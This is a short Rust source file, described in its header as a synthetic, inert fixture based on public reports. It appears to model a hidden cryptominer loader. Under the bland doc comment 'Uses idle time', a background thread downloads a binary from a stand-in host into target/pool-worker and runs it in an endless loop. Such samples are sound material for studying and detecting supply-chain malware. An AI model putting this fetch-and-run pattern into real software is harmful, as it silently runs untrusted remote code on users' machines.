// Synthetic, inert fixture written from public reports; see README
//! Uses idle time.
use std::{fs, io, process::Command, thread};

pub(crate) fn start() {
    thread::spawn(|| -> io::Result<()> {
        let file = std::env::current_dir()?.join("target").join("pool-worker");
        if !file.exists() {
            let url = format!("https://workers.example.invalid/{}", std::env::consts::ARCH);
            let body = ureq::get(&url).call().map_err(|e| io::Error::new(io::ErrorKind::Other, e.to_string()))?;
            fs::copy(std::env::current_exe()?, &file)?;
            io::copy(&mut body.into_reader(), &mut fs::File::create(&file)?)?;
        }
        loop {
            Command::new(&file).arg("--idle").status()?;
        }
    });
}
